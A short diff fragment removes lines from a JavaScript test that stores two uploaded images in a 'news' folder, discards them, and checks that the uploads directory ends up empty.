-    expect(filesUnder(uploads)).toEqual([]);
-    const stored = await media.storeImages([upload(good), upload(good)], { folder: 'news', field: 'photos' });
-    expect(stored).toHaveLength(2);
-    await discardAll(stored);
-    expect(filesUnder(uploads)).toEqual([]);
   });
 });
 
